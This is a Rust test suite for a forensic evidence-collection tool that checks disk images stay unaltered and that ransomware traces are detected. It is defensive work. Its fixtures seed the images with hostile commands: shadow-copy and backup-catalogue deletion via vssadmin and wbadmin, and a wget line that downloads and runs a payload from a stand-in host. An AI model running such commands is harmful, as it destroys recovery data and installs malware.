//! Real filesystem images: an NTFS image made with `mkntfs` and filled through ntfs-3g, an ext4
//! image made with `mkfs.ext4 -d`. Collected as image files and as read-only loop devices; the
//! images must be byte-identical afterwards.

use std::collections::BTreeMap;
use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value;
use sha2::{Digest, Sha256};

use crate::helpers::{sh, shodo, verify};

pub(crate) fn sha_file(path: &Path) -> String {
    format!("{:x}", Sha256::digest(fs::read(path).unwrap()))
}

/// A Windows-like tree on a fresh NTFS image.
fn ntfs_image(dir: &Path) -> PathBuf {
    ntfs_image_with(dir, &[])
}

/// The same, plus extra files.
pub(crate) fn ntfs_image_with(dir: &Path, extra: &[(&str, &[u8])]) -> PathBuf {
    let img = dir.join("windows.img");
    fs::File::create(&img).unwrap().set_len(64 << 20).unwrap();
    sh("mkntfs", &["-F", "-Q", "-q", "-L", "WIN", img.to_str().unwrap()]);
    let mnt = dir.join("mnt");
    fs::create_dir_all(&mnt).unwrap();
    sh("ntfs-3g", &[img.to_str().unwrap(), mnt.to_str().unwrap()]);
    let files = [
        ("Windows/System32/config/SYSTEM", "regf system hive"),
        ("Windows/System32/config/SOFTWARE", "regf software hive"),
        ("Windows/System32/winevt/Logs/Security.evtx", "ElfFile security"),
        ("Windows/Prefetch/MIMIKATZ.EXE-12345678.pf", "MAM prefetch"),
        ("Users/yamada/NTUSER.DAT", "regf user hive"),
        ("Users/yamada/Desktop/README_LOCKBIT.txt", "All your files are stolen and encrypted"),
        (
            "Users/yamada/AppData/Roaming/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt",
            "vssadmin delete shadows /all",
        ),
        ("ProgramData/AnyDesk/ad_svc.trace", "Incoming session request from 198.51.100.20"),
    ];
    for (rel, content) in files.iter().map(|(r, c)| (*r, c.as_bytes())).chain(extra.iter().copied()) {
        let p = mnt.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, content).unwrap();
    }
    sh("umount", &[mnt.to_str().unwrap()]);
    img
}

fn rows(case: &Path, endpoint: &str) -> BTreeMap<String, Value> {
    let text = fs::read_to_string(case.join("endpoints").join(endpoint).join("manifest.jsonl")).unwrap();
    text.lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .map(|r| (r["path"].as_str().unwrap().to_string(), r))
        .collect()
}

pub(crate) fn new_case(dir: &Path) -> PathBuf {
    let case = dir.join("case");
    shodo().args(["case", "init", "--case"]).arg(&case).assert().success();
    case
}

/// Runs `shodo collect ARGS --case CASE --source SRC`.
pub(crate) fn collect(case: &Path, src: &Path, args: &[&str]) -> std::process::Output {
    shodo().arg("collect").args(args).arg("--case").arg(case).arg("--source").arg(src).output().unwrap()
}

pub(crate) fn loops_of(img: &Path) -> String {
    sh("losetup", &["-j", img.to_str().unwrap()])
}

fn entry(case: &Path, endpoint: &str, row: &Value) -> Vec<u8> {
    use std::io::Read;
    let zip = case.join("endpoints").join(endpoint).join(row["zip"].as_str().unwrap());
    let mut a = zip::ZipArchive::new(fs::File::open(zip).unwrap()).unwrap();
    let mut e = a.by_name(row["entry"].as_str().unwrap()).unwrap();
    let mut out = Vec::new();
    e.read_to_end(&mut out).unwrap();
    out
}

#[test]
fn ntfs_image_is_collected_with_raw_mft_and_left_byte_identical() {
    let tmp = tempfile::tempdir().unwrap();
    let img = ntfs_image(tmp.path());
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--json", "--endpoint", "pc-01"]);
    assert!(out.status.code() == Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(sha_file(&img), before, "the image changed");
    assert_eq!(loops_of(&img).trim(), "", "the loop device was not detached");
    let rows = rows(&case, "pc-01");
    for rel in [
        "Windows/System32/config/SYSTEM",
        "Windows/System32/winevt/Logs/Security.evtx",
        "Windows/Prefetch/MIMIKATZ.EXE-12345678.pf",
        "Users/yamada/NTUSER.DAT",
        "Users/yamada/Desktop/README_LOCKBIT.txt",
        "ProgramData/AnyDesk/ad_svc.trace",
    ] {
        assert_eq!(rows.get(rel).map(|r| r["status"].clone()), Some("collected".into()), "{rel}");
    }
    let mft = &rows["$MFT"];
    assert_eq!(mft["status"], "collected");
    let bytes = entry(&case, "pc-01", mft);
    assert_eq!(&bytes[..4], b"FILE", "$MFT extracted raw starts with a FILE record");
    assert_eq!(mft["sha256"], format!("{:x}", Sha256::digest(&bytes)));
    assert_eq!(rows["$Boot"]["status"], "collected");
    assert_eq!(rows["$Extend/$UsnJrnl:$J"]["reason"], "absent", "a fresh volume has no USN journal");
    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
    let start: Value = custody
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["action"] == "collect.start")
        .unwrap();
    assert_eq!(start["detail"]["opened"]["fs"], "ntfs");
    assert_eq!(start["detail"]["opened"]["mount_options"], "ro,noatime");
    let endpoint: Value =
        serde_json::from_slice(&fs::read(case.join("endpoints/pc-01/endpoint.json")).unwrap()).unwrap();
    assert_eq!(endpoint["volume"]["fs"], "ntfs");
    assert_eq!(endpoint["volume"]["ntfs"]["windows"], true);
    assert_eq!(endpoint["volume"]["disk"]["backing_file"], img.to_str().unwrap());
    assert_eq!(endpoint["source"], img.to_str().unwrap());
    assert_eq!(verify(&case).0, 0);
}

#[test]
fn device_gets_the_read_only_flag_before_it_is_read() {
    let tmp = tempfile::tempdir().unwrap();
    let img = ntfs_image(tmp.path());
    let before = sha_file(&img);
    let dev = sh("losetup", &["--find", "--show", img.to_str().unwrap()]).trim().to_string();
    struct Detach(String);
    impl Drop for Detach {
        fn drop(&mut self) {
            let _ = Command::new("losetup").args(["-d", &self.0]).status();
        }
    }
    let _guard = Detach(dev.clone());
    sh("blockdev", &["--setrw", &dev]);
    assert_eq!(sh("blockdev", &["--getro", &dev]).trim(), "0");
    let case = new_case(tmp.path());
    let out = shodo()
        .args(["collect", "--endpoint", "pc-02", "--case"])
        .arg(&case)
        .args(["--source", &dev])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(sh("blockdev", &["--getro", &dev]).trim(), "1", "shodo leaves the evidence device read-only");
    assert_eq!(rows(&case, "pc-02")["$MFT"]["status"], "collected");
    sh("blockdev", &["--setrw", &dev]);
    drop(_guard);
    assert_eq!(sha_file(&img), before);
}

#[test]
fn ext4_image_is_collected_without_journal_replay() {
    let tmp = tempfile::tempdir().unwrap();
    let tree = tmp.path().join("tree");
    for (rel, content) in [
        ("etc/hostname", "mail-01\n"),
        ("etc/passwd", "root:x:0:0::/root:/bin/sh\n"),
        ("var/log/auth.log", "Failed password for root from 192.0.2.99\n"),
        ("root/.bash_history", "wget http://192.0.2.99/enc && ./enc\n"),
    ] {
        let p = tree.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, content).unwrap();
    }
    let img = tmp.path().join("linux.img");
    fs::File::create(&img).unwrap().set_len(32 << 20).unwrap();
    sh("mkfs.ext4", &["-F", "-q", "-d", tree.to_str().unwrap(), img.to_str().unwrap()]);
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(sha_file(&img), before, "the image changed");
    let rows = rows(&case, "mail-01");
    assert_eq!(
        rows["root/.bash_history"]["sha256"],
        format!("{:x}", Sha256::digest(b"wget http://192.0.2.99/enc && ./enc\n"))
    );
    assert_eq!(rows["var/log/auth.log"]["status"], "collected");
    assert_eq!(verify(&case).0, 0);
}

#[test]
fn sources_lists_an_attached_image_with_its_filesystem() {
    let tmp = tempfile::tempdir().unwrap();
    let img = ntfs_image(tmp.path());
    let dev = sh("losetup", &["--find", "--show", "--read-only", img.to_str().unwrap()]).trim().to_string();
    let out = shodo().args(["sources", "--json"]).output().unwrap();
    let _ = Command::new("losetup").args(["-d", &dev]).status();
    let disks: Value = serde_json::from_slice(&out.stdout).unwrap();
    let disk = disks
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["path"] == dev.as_str())
        .unwrap_or_else(|| panic!("{dev} not listed: {disks}"));
    assert_eq!(disk["fs"], "ntfs");
    assert_eq!(disk["read_only"], true);
    assert_eq!(disk["backing_file"], img.to_str().unwrap());
}

#[test]
fn collecting_from_a_directory_says_the_raw_metadata_was_not_preserved() {
    let tmp = tempfile::tempdir().unwrap();
    let src = tmp.path().join("c");
    fs::create_dir_all(src.join("Windows/System32/config")).unwrap();
    fs::write(src.join("Windows/System32/config/SYSTEM"), "regf").unwrap();
    let case = new_case(tmp.path());
    shodo().args(["collect", "--endpoint", "pc-03", "--case"]).arg(&case).arg("--source").arg(&src).assert().code(0);
    assert_eq!(rows(&case, "pc-03")["$MFT"]["reason"], "raw_unavailable");
}

#[test]
fn hibernated_windows_is_detected_and_said() {
    let tmp = tempfile::tempdir().unwrap();
    let mut hiberfil = b"HIBR".to_vec();
    hiberfil.resize(64 * 1024, 0);
    let img = ntfs_image_with(tmp.path(), &[("hiberfil.sys", &hiberfil)]);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--endpoint", "pc-04"]);
    assert_eq!(out.status.code(), Some(0));
    let msg = String::from_utf8_lossy(&out.stderr);
    assert!(msg.contains("休止状態") && msg.contains("Windows を起動しないでください"), "{msg}");
    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
    let start: Value = custody
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .find(|e| e["action"] == "collect.start")
        .unwrap();
    assert_eq!(start["detail"]["opened"]["ntfs"]["hibernated"], true);
    assert_eq!(start["detail"]["opened"]["ntfs"]["windows"], true);
}

#[test]
fn partitioned_disk_image_picks_the_windows_partition() {
    let tmp = tempfile::tempdir().unwrap();
    let img = tmp.path().join("disk.img");
    fs::File::create(&img).unwrap().set_len(96 << 20).unwrap();
    let layout = "label: gpt\nsize=16MiB, type=C12A7328-F81F-11D2-BA4B-00A0C93EC93B\ntype=EBD0A0A2-B9E5-4433-87C0-68B6B72699C7\n";
    let mut sfdisk =
        Command::new("sfdisk").arg("--quiet").arg(&img).stdin(std::process::Stdio::piped()).spawn().unwrap();
    std::io::Write::write_all(&mut sfdisk.stdin.take().unwrap(), layout.as_bytes()).unwrap();
    assert!(sfdisk.wait().unwrap().success());
    let dev = sh("losetup", &["--find", "--show", "--partscan", img.to_str().unwrap()]).trim().to_string();
    let part = format!("{dev}p2");
    if !Path::new(&part).exists() {
        sh("partx", &["--add", &dev]);
    }
    sh("mkntfs", &["-F", "-Q", "-q", &part]);
    let mnt = tmp.path().join("mnt");
    fs::create_dir_all(&mnt).unwrap();
    sh("ntfs-3g", &[&part, mnt.to_str().unwrap()]);
    fs::create_dir_all(mnt.join("Windows/System32/config")).unwrap();
    fs::write(mnt.join("Windows/System32/config/SAM"), "regf sam").unwrap();
    sh("umount", &[mnt.to_str().unwrap()]);
    sh("losetup", &["-d", &dev]);
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--endpoint", "pc-05"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(rows(&case, "pc-05")["Windows/System32/config/SAM"]["status"], "collected");
    // The EFI partition holds no filesystem here: asking for it is a clear error.
    let out = collect(&case, &img, &["--partition", "1", "--endpoint", "pc-06"]);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(sha_file(&img), before, "the image changed");
    assert_eq!(loops_of(&img).trim(), "");
}

/// An image whose volume header says BitLocker (`-FVE-FS-`), with no valid metadata behind it.
pub(crate) fn fake_bitlocker(dir: &Path) -> PathBuf {
    let img = dir.join("bitlocker.img");
    let mut bytes = vec![0u8; 16 << 20];
    bytes[..11].copy_from_slice(b"\xeb\x58\x90-FVE-FS-");
    fs::write(&img, bytes).unwrap();
    img
}

fn no_mapping_left() -> bool {
    fs::read_dir("/dev/mapper")
        .map(|d| d.flatten().all(|e| !e.file_name().to_string_lossy().starts_with("shodo-bitlk")))
        .unwrap_or(true)
}

#[test]
fn bitlocker_without_a_key_asks_for_one_and_writes_nothing() {
    let tmp = tempfile::tempdir().unwrap();
    let img = fake_bitlocker(tmp.path());
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--endpoint", "pc-07"]);
    assert_eq!(out.status.code(), Some(2));
    let msg = String::from_utf8_lossy(&out.stderr);
    assert!(msg.contains("BitLocker") && msg.contains("--recovery-key-file") && msg.contains("回復キー"), "{msg}");
    assert_eq!(sha_file(&img), before);
    assert_eq!(loops_of(&img).trim(), "");
}

#[test]
fn bitlocker_key_with_a_typo_is_refused_before_anything_is_opened() {
    let tmp = tempfile::tempdir().unwrap();
    let img = fake_bitlocker(tmp.path());
    let key = tmp.path().join("key.txt");
    fs::write(&key, "000012-000022-000033-000044-000055-000066-000077-000088\n").unwrap();
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--endpoint", "pc-08", "--recovery-key-file", key.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let msg = String::from_utf8_lossy(&out.stderr);
    assert!(msg.contains("11 の倍数") && msg.contains("multiple of 11"), "{msg}");
    assert_eq!(loops_of(&img).trim(), "", "nothing was attached for a mistyped key");
}

#[test]
fn bitlocker_that_cannot_be_unlocked_is_a_clear_error_and_the_key_is_never_recorded() {
    let tmp = tempfile::tempdir().unwrap();
    let img = fake_bitlocker(tmp.path());
    let before = sha_file(&img);
    let key = "000011-000022-000033-000044-000055-000066-000077-000088";
    let key_file = tmp.path().join("key.txt");
    fs::write(&key_file, key).unwrap();
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--endpoint", "pc-09", "--recovery-key-file", key_file.to_str().unwrap()]);
    assert_eq!(out.status.code(), Some(2));
    let msg = String::from_utf8_lossy(&out.stderr);
    assert!(msg.contains("cryptsetup") && msg.contains("dislocker") && msg.contains("nothing was written"), "{msg}");
    assert!(!msg.contains(key), "the key was printed");
    assert_eq!(sha_file(&img), before);
    assert_eq!(loops_of(&img).trim(), "");
    assert!(no_mapping_left());
    for entry in walkdir::WalkDir::new(&case).into_iter().flatten().filter(|e| e.file_type().is_file()) {
        let text = String::from_utf8_lossy(&fs::read(entry.path()).unwrap()).into_owned();
        assert!(!text.contains(key), "the key is in {}", entry.path().display());
    }
}

#[test]
fn xfs_image_is_mounted_without_log_recovery_and_left_byte_identical() {
    let tmp = tempfile::tempdir().unwrap();
    let img = tmp.path().join("xfs.img");
    fs::File::create(&img).unwrap().set_len(320 << 20).unwrap();
    sh("mkfs.xfs", &["-q", "-f", img.to_str().unwrap()]);
    let mnt = tmp.path().join("mnt");
    fs::create_dir_all(&mnt).unwrap();
    sh("mount", &["-o", "loop", img.to_str().unwrap(), mnt.to_str().unwrap()]);
    for (rel, content) in
        [("etc/hostname", "file-01\n"), ("var/log/secure", "Accepted publickey for root from 192.0.2.5\n")]
    {
        let p = mnt.join(rel);
        fs::create_dir_all(p.parent().unwrap()).unwrap();
        fs::write(p, content).unwrap();
    }
    sh("umount", &[mnt.to_str().unwrap()]);
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert_eq!(sha_file(&img), before, "the image changed");
    assert_eq!(rows(&case, "file-01")["var/log/secure"]["status"], "collected");
    let endpoint: Value =
        serde_json::from_slice(&fs::read(case.join("endpoints/file-01/endpoint.json")).unwrap()).unwrap();
    assert_eq!(endpoint["volume"]["mount_options"], "ro,norecovery,noatime");
    assert_eq!(loops_of(&img).trim(), "");
}

#[test]
fn windows_facts_come_from_the_hives_and_name_the_endpoint() {
    let tmp = tempfile::tempdir().unwrap();
    let system = tmp.path().join("SYSTEM");
    let software = tmp.path().join("SOFTWARE");
    crate::hives::system_hive(&system, "PC-RECEPTION-01");
    crate::hives::software_hive(&software);
    let (system, software) = (fs::read(&system).unwrap(), fs::read(&software).unwrap());
    let img = ntfs_image_with(
        tmp.path(),
        &[("Windows/System32/config/SYSTEM", &system), ("Windows/System32/config/SOFTWARE", &software)],
    );
    let case = new_case(tmp.path());
    // No --endpoint: the host name comes from the SYSTEM hive.
    let out = collect(&case, &img, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let endpoint: Value =
        serde_json::from_slice(&fs::read(case.join("endpoints/PC-RECEPTION-01/endpoint.json")).unwrap()).unwrap();
    assert_eq!(endpoint["hostname"], "PC-RECEPTION-01");
    assert_eq!(endpoint["os_release"], "Windows 10 Pro 22H2 (build 19045.3803)");
    assert_eq!(endpoint["time_zone"], "Tokyo Standard Time");
    assert_eq!(endpoint["install_date"], "2023-04-01T00:00:00.000000Z");
    assert_eq!(endpoint["last_shutdown"], "2024-05-19T06:58:47.000000Z");
    let nic = &endpoint["nics"][0];
    assert_eq!(
        (nic["address"].as_str(), nic["gateway"].as_str(), nic["dhcp"].as_bool()),
        (Some("192.168.10.21"), Some("192.168.10.1"), Some(false))
    );
    let missing = endpoint["not_determined"].as_array().unwrap();
    for fact in ["hostname", "os_release", "install_date", "time_zone", "last_shutdown", "nics"] {
        assert!(!missing.iter().any(|m| m == fact), "{fact} not determined: {endpoint}");
    }
    // The network team's sheet, from these facts: an offline disk records no MAC address.
    let mut sheet = crate::helpers::shodo();
    let out = sheet.args(["isolate", "sheet", "--endpoint", "PC-RECEPTION-01", "--case"]).arg(&case).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    let page = fs::read_to_string(case.join("endpoints/PC-RECEPTION-01/network-sheet.html")).unwrap();
    for text in ["PC-RECEPTION-01", "Windows 10 Pro 22H2", "192.168.10.21", "192.168.10.1", "ARP", "ポート番号"] {
        assert!(page.contains(text), "{text} missing from the sheet");
    }
    assert!(page.contains("まだ記録されていません"), "no isolation yet");
    assert_eq!(crate::helpers::verify(&case).0, 0, "the sheet is on the custody record");
}

/// Sets the dirty flag in the NTFS image's $VOLUME_INFORMATION (MFT record 3), as an unclean
/// shutdown leaves it.
fn mark_dirty(img: &Path) {
    let mut b = fs::read(img).unwrap();
    let u16_at = |b: &[u8], o: usize| u16::from_le_bytes([b[o], b[o + 1]]) as usize;
    let u32_at = |b: &[u8], o: usize| u32::from_le_bytes([b[o], b[o + 1], b[o + 2], b[o + 3]]) as usize;
    let cluster = u16_at(&b, 0x0B) * b[0x0D] as usize;
    for table in [0x30, 0x38] {
        let record = u32_at(&b, table) * cluster + 3 * 1024;
        set_dirty_in(&mut b, record);
    }
    fs::write(img, b).unwrap();
}

fn set_dirty_in(b: &mut [u8], record: usize) {
    let u16_at = |b: &[u8], o: usize| u16::from_le_bytes([b[o], b[o + 1]]) as usize;
    let u32_at = |b: &[u8], o: usize| u32::from_le_bytes([b[o], b[o + 1], b[o + 2], b[o + 3]]) as usize;
    assert_eq!(&b[record..record + 4], b"FILE");
    let mut attr = record + u16_at(b, record + 0x14);
    while u32_at(b, attr) != 0x70 {
        assert_ne!(u32_at(b, attr), 0xFFFF_FFFF, "no $VOLUME_INFORMATION");
        attr += u32_at(b, attr + 4);
    }
    let flags = attr + u16_at(b, attr + 0x14) + 0x0A;
    assert!((flags - record) % 512 < 510, "flags must not sit on a fixup slot");
    b[flags] |= 0x01;
}

#[test]
fn dirty_ntfs_is_detected_and_said() {
    let tmp = tempfile::tempdir().unwrap();
    let img = ntfs_image(tmp.path());
    mark_dirty(&img);
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--endpoint", "pc-10"]);
    assert_eq!(out.status.code(), Some(0), "{}", String::from_utf8_lossy(&out.stderr));
    assert!(String::from_utf8_lossy(&out.stderr).contains("dirty"));
    let endpoint: Value =
        serde_json::from_slice(&fs::read(case.join("endpoints/pc-10/endpoint.json")).unwrap()).unwrap();
    assert_eq!(endpoint["volume"]["ntfs"]["dirty"], true);
    assert_eq!(sha_file(&img), before, "a dirty volume is read, never repaired");
}

#[test]
fn ntfs_the_driver_refuses_still_gives_its_raw_metadata() {
    let tmp = tempfile::tempdir().unwrap();
    let img = ntfs_image(tmp.path());
    // Break the $MFTMirr copy of record 3 only: ntfs-3g then refuses the volume.
    let mut b = fs::read(&img).unwrap();
    let cluster = u16::from_le_bytes([b[0x0B], b[0x0C]]) as usize * b[0x0D] as usize;
    let mirr = u32::from_le_bytes([b[0x38], b[0x39], b[0x3A], b[0x3B]]) as usize * cluster;
    set_dirty_in(&mut b, mirr + 3 * 1024);
    fs::write(&img, &b).unwrap();
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    let out = collect(&case, &img, &["--endpoint", "pc-11"]);
    assert_eq!(out.status.code(), Some(1), "{}", String::from_utf8_lossy(&out.stderr));
    let rows = rows(&case, "pc-11");
    assert_eq!(rows["/"]["reason"], "unmountable");
    assert_eq!(rows["$MFT"]["status"], "collected");
    assert_eq!(sha_file(&img), before);
    assert_eq!(verify(&case).0, 0);
}

fn scan_case(case: &Path, endpoint: &str, args: &[&str]) -> (i32, Value, String) {
    let out =
        shodo().args(["scan", "--json", "--endpoint", endpoint]).args(args).arg("--case").arg(case).output().unwrap();
    let json = serde_json::from_slice(&out.stdout).unwrap_or(Value::Null);
    (out.status.code().unwrap(), json, String::from_utf8_lossy(&out.stderr).into_owned())
}

fn findings(case: &Path, endpoint: &str) -> Vec<Value> {
    let text = fs::read_to_string(case.join("endpoints").join(endpoint).join("findings.jsonl")).unwrap();
    text.lines().map(|l| serde_json::from_str(l).unwrap()).collect()
}

#[test]
fn an_attached_source_is_scanned_whole_and_left_byte_identical() {
    let tmp = tempfile::tempdir().unwrap();
    // Files the catalogue does not collect: a share full of "encrypted" records and a tool.
    let mut noise = vec![0u8; 64 * 1024];
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    for b in noise.iter_mut() {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        *b = (x >> 24) as u8;
    }
    let share: &[(&str, &[u8])] = &[
        ("Share/カルテ/記録.xlsx.lockbit", &noise),
        ("Share/tools/cleanup.ps1", b"vssadmin delete shadows /all /quiet\r\nwbadmin delete catalog -quiet\r\n"),
    ];
    let img = ntfs_image_with(tmp.path(), share);
    let before = sha_file(&img);
    let case = new_case(tmp.path());
    assert_eq!(collect(&case, &img, &["--endpoint", "pc-30"]).status.code(), Some(0));
    assert!(!rows(&case, "pc-30").contains_key("Share/tools/cleanup.ps1"), "the catalogue leaves the share alone");

    let (code, result, stderr) = scan_case(&case, "pc-30", &[]);
    assert_eq!(code, 1, "{stderr}");
    assert_eq!(result["volume"]["attached"], true, "{result}");
    assert!(result["volume"]["summary"]["scanned"].as_u64().unwrap() >= 2, "{result}");
    let records = findings(&case, "pc-30");
    let on = |path: &str, kind: &str| records.iter().find(|r| r["path"] == path && r["kind"] == kind).cloned();
    let tool = on("Share/tools/cleanup.ps1", "yara").unwrap_or_else(|| panic!("{records:?}"));
    assert_eq!((tool["rule"].as_str(), tool["origin"].as_str()), (Some("shodo_shadow_copy_deletion"), Some("volume")));
    let enc = on("Share/カルテ/記録.xlsx.lockbit", "encrypted_file").unwrap();
    assert_eq!(enc["origin"], "volume");
    assert!(enc["modified"].is_string(), "times come from the volume: {enc}");
    let note = on("Users/yamada/Desktop/README_LOCKBIT.txt", "ransom_note_name").unwrap();
    assert_eq!(note["origin"], "evidence", "collected files are scanned from the evidence, not twice");
    assert_eq!(records.iter().filter(|r| r["path"] == "Users/yamada/Desktop/README_LOCKBIT.txt").count(), 1);
    assert_eq!(result["encryption"]["by_top_directory"]["Share"]["files"], 1, "{result}");
    // What only the volume scan found is in the evidence now, on the manifest as its own artefact.
    let mut kept: Vec<(&str, &str)> = result["kept"]["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| (f["path"].as_str().unwrap(), f["why"].as_str().unwrap()))
        .collect();
    kept.sort();
    assert_eq!(kept, [("Share/tools/cleanup.ps1", "tool"), ("Share/カルテ/記録.xlsx.lockbit", "encrypted_sample")]);
    assert_eq!(rows(&case, "pc-30")["Share/tools/cleanup.ps1"]["artefacts"][0], "scan.tool");
    assert_eq!(sha_file(&img), before, "the image changed");
    assert_eq!(loops_of(&img).trim(), "", "the loop device was not detached");
    let custody = fs::read_to_string(case.join("custody.jsonl")).unwrap();
    assert!(custody.lines().any(|l| l.contains(r#""action":"scan.start""#) && l.contains(r#""attached":true"#)));
    assert_eq!(verify(&case).0, 0);

    // Detached: the evidence alone, and the reason on the record.
    let moved = tmp.path().join("elsewhere.img");
    fs::rename(&img, &moved).unwrap();
    let (_, result, stderr) = scan_case(&case, "pc-30", &[]);
    assert_eq!(result["volume"]["attached"], false);
    assert!(result["volume"]["reason"].as_str().unwrap().contains("not attached"), "{result}");
    assert!(stderr.contains("ボリューム全体は検査しません"), "{stderr}");
    assert!(findings(&case, "pc-30").iter().all(|r| r["origin"] == "evidence"));

    // Another volume at the same path is not taken for the endpoint's.
    let other = tempfile::tempdir().unwrap();
    let impostor = ntfs_image_with(other.path(), share);
    // mkntfs seeds its serial from the clock: two images made in one second share it.
    let mut boot = fs::read(&impostor).unwrap();
    boot[0x48..0x50].copy_from_slice(&0x1122_3344_5566_7788u64.to_le_bytes());
    fs::write(&impostor, boot).unwrap();
    fs::rename(&impostor, &img).unwrap();
    let (_, result, _) = scan_case(&case, "pc-30", &[]);
    assert_eq!(result["volume"]["attached"], false);
    assert!(result["volume"]["reason"].as_str().unwrap().contains("different volume"), "{result}");
    assert_eq!(loops_of(&img).trim(), "");

    // Where it is now, named explicitly.
    let (_, result, _) = scan_case(&case, "pc-30", &["--source", moved.to_str().unwrap()]);
    assert_eq!(result["volume"]["attached"], true, "{result}");
}
